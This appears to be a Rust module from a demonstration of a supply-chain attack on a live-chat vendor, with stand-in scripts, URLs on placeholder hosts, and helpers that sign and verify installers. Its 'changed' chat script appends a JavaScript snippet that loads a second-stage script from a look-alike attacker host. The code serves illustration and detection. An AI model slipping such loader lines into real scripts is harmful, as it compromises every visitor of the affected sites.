//! The vendor's files, good and changed. All of them are stand-ins: text that does nothing, at names that belong to
//! nobody, since the real ones of 2022 were not found in a public source.

use bytes::Bytes;
use rustls::SignatureScheme;
use rustls::pki_types::CertificateDer;
use rustls::sign::CertifiedKey;

use crate::demo::Doing as _;
use crate::failure::Failure;

/// Where the chat script is.
pub(crate) const CHAT: &str = "https://vue.comm100.example/livechat.js";
/// Where the download link for the desktop agent leads.
pub(crate) const AGENT: &str = "https://downloads.comm100.example/agent-setup.exe";
/// A file that came with a release nobody has reviewed.
pub(crate) const AGENT_RENAMED: &str = "https://downloads.comm100.example/agent-setup-10.4.3.exe";
/// What the changed script fetches and would run.
pub(crate) const SECOND_STAGE: &str = "https://cornm100.example/stage2.js";

/// The hosts of the vendor, and the one that looks like it.
pub(crate) const CHAT_HOST: &str = "vue.comm100.example";
pub(crate) const DOWNLOAD_HOST: &str = "downloads.comm100.example";
pub(crate) const LOOK_ALIKE_HOST: &str = "cornm100.example";
/// Whose key signs the vendor's installers.
pub(crate) const SIGNER: &str = "signing.comm100.example";

const SIGNATURE: &[u8] = b"\n-- signature --\n";

/// One release of the chat script.
pub(crate) fn chat_script(release: &str) -> Bytes {
    format!(
        "// Stand-in for the vendor's chat script, release {release}. It is not the real one.\n\
         (function () {{\n  window.chat = {{ greet: function () {{ return \"Hello, how can we help?\"; }} }};\n}})();\n"
    )
    .into()
}

/// The chat script with a few lines more, as an attacker leaves it: it loads code from elsewhere.
pub(crate) fn changed_chat_script() -> Bytes {
    let reviewed = chat_script("10.4.2");
    let added = format!(
        "(function () {{\n  var s = document.createElement(\"script\");\n  s.src = \"{SECOND_STAGE}\";\n  \
         document.head.appendChild(s);\n}})();\n"
    );
    [&reviewed[..], added.as_bytes()].concat().into()
}

/// What the look-alike host serves.
pub(crate) fn second_stage() -> Bytes {
    Bytes::from_static(b"// Stand-in for the second stage. The real one would take over from here.\n")
}

/// The URL that a script loads more code from, read out of its bytes as a browser would find it.
pub(crate) fn loads_from(script: &[u8]) -> Option<String> {
    let text = std::str::from_utf8(script).ok()?;
    let (_, rest) = text.split_once("s.src = \"")?;
    Some(rest.split_once('"')?.0.to_owned())
}

/// An installer with the vendor's signature below it. It begins like a program for Windows, and is none.
pub(crate) fn installer(contents: &str, key: &CertifiedKey) -> Result<Bytes, Failure> {
    let program = format!("MZ stand-in for the desktop agent's installer: {contents}\n");
    let signer = key
        .key
        .choose_scheme(&[SignatureScheme::ECDSA_NISTP256_SHA256])
        .ok_or("the key is of another kind")
        .doing("sign an installer")?;
    let signature = signer.sign(program.as_bytes()).doing("sign an installer")?;
    Ok([program.as_bytes(), SIGNATURE, &signature].concat().into())
}

/// Whether an installer's signature is by the owner of `certificate`: what an operating system checks before it
/// runs one, without the trappings of Authenticode.
pub(crate) fn is_signed_by(installer: &[u8], certificate: &CertificateDer<'_>) -> bool {
    let parts = installer.windows(SIGNATURE.len()).position(|window| window == SIGNATURE).and_then(|at| {
        let (program, rest) = installer.split_at_checked(at)?;
        Some((program, rest.strip_prefix(SIGNATURE)?))
    });
    let (Some((program, signature)), Ok(signer)) = (parts, webpki::EndEntityCert::try_from(certificate))
    else {
        return false;
    };
    signer.verify_signature(webpki::aws_lc_rs::ECDSA_P256_SHA256, program, signature).is_ok()
}
